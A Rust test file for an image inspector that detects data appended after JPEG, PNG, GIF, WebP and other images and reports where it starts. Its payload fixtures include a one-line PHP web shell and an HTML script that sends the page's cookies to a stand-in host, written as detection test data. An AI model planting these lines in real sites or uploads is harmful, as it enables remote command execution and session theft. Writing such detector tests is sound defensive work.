//! Image inspection: every clean fixture stays clean (progressive, EXIF-thumbnail and
//! multi-picture JPEGs included); known payloads appended to the test photographs are
//! found where they start and named.

use ci_core::process::{inspect, inspect_with, Limits, ProcessError};
use ci_core::result::ImageInspectResult;

use crate::support::*;

/// Every image of the corpus, with the `picType` it must report.
const CLEAN: [(&str, &str); 26] = [
    ("photo.jpg", "jpeg"),
    ("photo-progressive-q75.jpg", "jpeg"),
    ("gray.jpg", "jpeg"),
    ("cmyk.jpg", "jpeg"),
    ("exif-camera.jpg", "jpeg"),
    ("orient-1.jpg", "jpeg"),
    ("orient-2.jpg", "jpeg"),
    ("orient-3.jpg", "jpeg"),
    ("orient-4.jpg", "jpeg"),
    ("orient-5.jpg", "jpeg"),
    ("orient-6.jpg", "jpeg"),
    ("orient-7.jpg", "jpeg"),
    ("orient-8.jpg", "jpeg"),
    ("subject-plain-bg.jpg", "jpeg"),
    ("photo.png", "png"),
    ("palette.png", "png"),
    ("gray16.png", "png"),
    ("alpha.png", "png"),
    ("photo.webp", "webp"),
    ("photo-lossless.webp", "webp"),
    ("alpha.webp", "webp"),
    ("anim.webp", "webp"),
    ("anim.gif", "gif"),
    ("photo.bmp", "bmp"),
    ("photo.tiff", "tiff"),
    ("photo.avif", "avif"),
];

/// The photographs payloads are appended to (one per inspected format).
const CARRIERS: [&str; 7] = [
    "photo.jpg",
    "photo-progressive-q75.jpg",
    "photo.png",
    "anim.gif",
    "photo.webp",
    "photo.bmp",
    "photo.avif",
];

/// `count` MPEG-TS packets: sync byte, PID 0x0100, continuity counter, 184 payload bytes.
fn ts_stream(count: usize) -> Vec<u8> {
    let mut out = Vec::with_capacity(count * 188);
    for k in 0..count {
        out.extend_from_slice(&[0x47, 0x41, 0x00, 0x10 | (k as u8 & 0x0F)]);
        out.extend((0..184).map(|i| (i * 31 + k * 7) as u8));
    }
    out
}

/// A real one-file ZIP archive (stored, CRC-32 from flate2).
fn zip_archive() -> Vec<u8> {
    let name = b"hidden.txt";
    let data = b"nothing to see here\n";
    let mut crc = flate2::Crc::new();
    crc.update(data);
    let crc = crc.sum().to_le_bytes();
    let size = (data.len() as u32).to_le_bytes();
    let name_len = (name.len() as u16).to_le_bytes();
    let mut z = Vec::new();
    z.extend_from_slice(b"PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x21\x00");
    z.extend_from_slice(&crc);
    z.extend_from_slice(&size);
    z.extend_from_slice(&size);
    z.extend_from_slice(&name_len);
    z.extend_from_slice(&[0, 0]);
    z.extend_from_slice(name);
    z.extend_from_slice(data);
    let central_at = (z.len() as u32).to_le_bytes();
    let central_start = z.len();
    z.extend_from_slice(b"PK\x01\x02\x14\x00\x14\x00\x00\x00\x00\x00\x00\x00\x21\x00");
    z.extend_from_slice(&crc);
    z.extend_from_slice(&size);
    z.extend_from_slice(&size);
    z.extend_from_slice(&name_len);
    z.extend_from_slice(&[0; 12]);
    z.extend_from_slice(name);
    let central_len = ((z.len() - central_start) as u32).to_le_bytes();
    z.extend_from_slice(b"PK\x05\x06\x00\x00\x00\x00\x01\x00\x01\x00");
    z.extend_from_slice(&central_len);
    z.extend_from_slice(&central_at);
    z.extend_from_slice(&[0, 0]);
    z
}

/// A 64-bit ELF header (the first 64 bytes of an x86-64 executable) and some code.
fn elf() -> Vec<u8> {
    let mut e = b"\x7fELF\x02\x01\x01\x00".to_vec();
    e.extend_from_slice(&[0; 8]);
    e.extend_from_slice(&[2, 0, 0x3E, 0, 1, 0, 0, 0]);
    e.resize(64, 0);
    e.extend_from_slice(&[0x48, 0x31, 0xC0, 0xC3]);
    e
}

/// A DOS stub whose `e_lfanew` points at a PE signature.
fn pe() -> Vec<u8> {
    let mut p = b"MZ".to_vec();
    p.resize(0x3C, 0x90);
    p.extend_from_slice(&0x80u32.to_le_bytes());
    p.resize(0x80, 0);
    p.extend_from_slice(b"PE\0\0\x64\x86");
    p.resize(0x100, 0);
    p
}

fn payloads() -> Vec<(&'static str, Vec<u8>)> {
    let mut mp4 = vec![0, 0, 0, 0x18];
    mp4.extend_from_slice(b"ftypisom\0\0\x02\0isomiso2");
    mp4.extend_from_slice(&[0, 0, 0, 8]);
    mp4.extend_from_slice(b"mdat");
    vec![
        ("MPEG-TS", ts_stream(20)),
        ("ZIP", zip_archive()),
        (
            "RAR",
            b"Rar!\x1a\x07\x01\x00\x33\x92\xb5\xe5\x0a\x01\x05\x06\x00\x05\x01\x01".to_vec(),
        ),
        (
            "7Z",
            b"7z\xbc\xaf\x27\x1c\x00\x04\x8d\x9b\xd5\x0f\x00\x00\x00\x00".to_vec(),
        ),
        (
            "GZIP",
            b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\x4b\x4c\x4a\x06\x00".to_vec(),
        ),
        (
            "PDF",
            b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n".to_vec(),
        ),
        ("ELF", elf()),
        ("PE", pe()),
        ("MP4", mp4),
        ("PHP", b"<?php system($_GET['c']); ?>".to_vec()),
        (
            "HTML-SCRIPT",
            b"<SCRIPT>fetch('//x.example/'+document.cookie)</SCRIPT>".to_vec(),
        ),
        ("SHELL-SCRIPT", b"\n#!/bin/sh\nid\n".to_vec()),
        ("UNKNOWN", b"just some text that follows the image".to_vec()),
    ]
}

fn expect_suspicious(report: &ImageInspectResult, image_len: usize, total: usize, kind: &str) {
    assert!(report.suspicious, "{kind}: {report:?}");
    assert_eq!(report.pic_size, total as u64);
    assert_eq!(
        report.suspicious_begin_byte,
        Some(image_len as u64),
        "{kind}"
    );
    assert_eq!(report.suspicious_end_byte, Some(total as u64 - 1), "{kind}");
    assert_eq!(
        report.suspicious_size,
        Some((total - image_len) as u64),
        "{kind}"
    );
    assert_eq!(report.suspicious_type.as_deref(), Some(kind));
}

#[test]
fn every_clean_fixture_is_clean() {
    for (name, pic_type) in CLEAN {
        let bytes = corpus(name);
        let report = inspect(&bytes).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(
            report,
            ImageInspectResult::clean(bytes.len() as u64, pic_type),
            "{name}"
        );
        assert_eq!(
            report.to_json(),
            format!(
                r#"{{"picSize":{},"picType":"{pic_type}","suspicious":false}}"#,
                bytes.len()
            )
        );
    }
}

#[test]
fn every_payload_after_every_image_is_found_where_it_starts() {
    for carrier in CARRIERS {
        let image = corpus(carrier);
        for (kind, payload) in payloads() {
            let mut file = image.clone();
            file.extend_from_slice(&payload);
            let report = inspect(&file).unwrap_or_else(|e| panic!("{carrier}+{kind}: {e}"));
            expect_suspicious(&report, image.len(), file.len(), kind);
        }
    }
}

#[test]
fn the_cloud_s_example_shape_for_ts_after_a_png() {
    let png = corpus("photo.png");
    let mut file = png.clone();
    file.extend_from_slice(&ts_stream(4000));
    let report = inspect(&file).unwrap();
    assert_eq!(
        report.to_json(),
        format!(
            r#"{{"picSize":{},"picType":"png","suspicious":true,"suspiciousBeginByte":{},"suspiciousEndByte":{},"suspiciousSize":{},"suspiciousType":"MPEG-TS"}}"#,
            png.len() + 752_000,
            png.len(),
            png.len() + 752_000 - 1,
            752_000
        )
    );
    assert_eq!(
        ImageInspectResult::from_json(&report.to_json()).unwrap(),
        report
    );
}

#[test]
fn a_bare_ts_stream_posing_as_an_image_is_wholly_suspicious() {
    for stream in [ts_stream(1), ts_stream(3), {
        // M2TS: a 4-byte timestamp before each packet.
        ts_stream(3)
            .chunks(188)
            .flat_map(|p| [0, 0, 0, 1].into_iter().chain(p.iter().copied()))
            .collect()
    }] {
        let report = inspect(&stream).unwrap();
        assert_eq!(report.pic_type, "ts");
        expect_suspicious(&report, 0, stream.len(), "MPEG-TS");
    }
}

#[test]
fn padding_and_short_leftovers_are_not_suspicious() {
    let jpeg = corpus("photo.jpg");
    for tail in [
        vec![0u8; 1],
        vec![0u8; 4096],
        vec![0xFF; 3],
        b"\n".to_vec(),
        b"\r\n".to_vec(),
        b"0123456789abcdef".to_vec(),
    ] {
        let mut file = jpeg.clone();
        file.extend_from_slice(&tail);
        let report = inspect(&file).unwrap();
        assert!(!report.suspicious, "{tail:?}: {report:?}");
        assert_eq!(report.pic_size, file.len() as u64);
    }
    // One byte more than the short leftovers, without a signature: unknown data.
    let mut file = jpeg.clone();
    file.extend_from_slice(b"0123456789abcdefg");
    expect_suspicious(&inspect(&file).unwrap(), jpeg.len(), file.len(), "UNKNOWN");
    // Padding before a TS stream: the padding is where the suspicious part starts.
    let mut file = jpeg.clone();
    file.extend_from_slice(&[0; 7]);
    file.extend_from_slice(&ts_stream(5));
    expect_suspicious(&inspect(&file).unwrap(), jpeg.len(), file.len(), "MPEG-TS");
    // A ZIP found only by its end record (its entries start beyond the first 64 KiB).
    let mut file = jpeg.clone();
    let mut hidden = vec![0x5A; 70_000];
    hidden.extend_from_slice(
        b"PK\x05\x06\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
    );
    file.extend_from_slice(&hidden);
    expect_suspicious(&inspect(&file).unwrap(), jpeg.len(), file.len(), "ZIP");
}

/// `photo.jpg` with an EXIF APP1 segment right after SOI holding `orient-1.jpg` as its
/// thumbnail (IFD1 JPEGInterchangeFormat / JPEGInterchangeFormatLength).
fn jpeg_with_exif_thumbnail() -> Vec<u8> {
    let photo = corpus("photo.jpg");
    let thumb = corpus("orient-1.jpg");
    let mut tiff = b"II*\0\x08\0\0\0".to_vec();
    tiff.extend_from_slice(&[0, 0]); // IFD0: no entries
    tiff.extend_from_slice(&14u32.to_le_bytes()); // next IFD (IFD1) at 14
    tiff.extend_from_slice(&2u16.to_le_bytes());
    let thumb_at = 14 + 2 + 2 * 12 + 4;
    for (tag, value) in [(0x0201u16, thumb_at as u32), (0x0202, thumb.len() as u32)] {
        tiff.extend_from_slice(&tag.to_le_bytes());
        tiff.extend_from_slice(&4u16.to_le_bytes());
        tiff.extend_from_slice(&1u32.to_le_bytes());
        tiff.extend_from_slice(&value.to_le_bytes());
    }
    tiff.extend_from_slice(&0u32.to_le_bytes());
    assert_eq!(tiff.len(), thumb_at);
    tiff.extend_from_slice(&thumb);
    let mut app1 = vec![0xFF, 0xE1];
    app1.extend_from_slice(&((tiff.len() + 8) as u16).to_be_bytes());
    app1.extend_from_slice(b"Exif\0\0");
    app1.extend_from_slice(&tiff);
    let mut out = photo[..2].to_vec();
    out.extend_from_slice(&app1);
    out.extend_from_slice(&photo[2..]);
    out
}

#[test]
fn exif_thumbnails_and_multi_picture_jpegs_are_clean() {
    let with_thumb = jpeg_with_exif_thumbnail();
    // The thumbnail's own EOI comes long before the photo's.
    let first_eoi = with_thumb
        .windows(2)
        .position(|w| w == [0xFF, 0xD9])
        .unwrap();
    assert!(first_eoi < 20_000 && with_thumb.len() > 60_000);
    assert_eq!(
        dims(&run_ok(&with_thumb, "imageMogr2/format/png")),
        (640, 400),
        "the built file is a valid JPEG"
    );
    let report = inspect(&with_thumb).unwrap();
    assert!(!report.suspicious, "{report:?}");
    let mut file = with_thumb.clone();
    file.extend_from_slice(&zip_archive());
    expect_suspicious(
        &inspect(&file).unwrap(),
        with_thumb.len(),
        file.len(),
        "ZIP",
    );

    // A second JPEG after the first: part of the image with an MPF segment, not without.
    let photo = corpus("photo.jpg");
    let second = corpus("orient-1.jpg");
    let mut plain = photo.clone();
    plain.extend_from_slice(&second);
    expect_suspicious(
        &inspect(&plain).unwrap(),
        photo.len(),
        plain.len(),
        "UNKNOWN",
    );
    let mut mpo = photo[..2].to_vec();
    mpo.extend_from_slice(&[0xFF, 0xE2, 0x00, 0x0A]);
    mpo.extend_from_slice(b"MPF\0II*\0");
    mpo.extend_from_slice(&photo[2..]);
    let first_len = mpo.len();
    mpo.extend_from_slice(&second);
    assert!(!inspect(&mpo).unwrap().suspicious);
    mpo.extend_from_slice(&ts_stream(3));
    expect_suspicious(
        &inspect(&mpo).unwrap(),
        first_len + second.len(),
        mpo.len(),
        "MPEG-TS",
    );
}

#[test]
fn a_gif_without_its_trailer_ends_where_no_block_starts() {
    let gif = corpus("anim.gif");
    assert_eq!(gif.last(), Some(&0x3B));
    let body = &gif[..gif.len() - 1];
    let mut file = body.to_vec();
    file.extend_from_slice(b"<?php echo 1; ?>");
    expect_suspicious(&inspect(&file).unwrap(), body.len(), file.len(), "PHP");
}

#[test]
fn errors_and_broken_inputs() {
    assert!(matches!(
        inspect(b""),
        Err(ProcessError::InvalidImageFormat(_))
    ));
    assert!(matches!(
        inspect(b"hello, not an image"),
        Err(ProcessError::InvalidImageFormat(_))
    ));
    let limits = Limits {
        max_input_bytes: 1000,
        ..Limits::default()
    };
    assert!(matches!(
        inspect_with(&corpus("photo.jpg"), &limits),
        Err(ProcessError::ImageTooLarge {
            size: 55130,
            limit: 1000
        })
    ));
    // Broken files never panic; a truncated JPEG claims nothing about its missing end.
    for entry in std::fs::read_dir(corpus_dir().join("bad")).unwrap() {
        let bytes = std::fs::read(entry.unwrap().path()).unwrap();
        let _ = inspect(&bytes);
    }
    let truncated = corpus("bad/truncated.jpg");
    assert!(!inspect(&truncated).unwrap().suspicious);
    // Every prefix of a carrier with a payload: no panic, never past the end.
    let mut file = corpus("anim.gif");
    file.extend_from_slice(&ts_stream(2));
    for cut in 1..file.len() {
        if let Ok(r) = inspect(&file[..cut]) {
            assert!(r.suspicious_end_byte.is_none_or(|e| e < cut as u64));
        }
    }
}
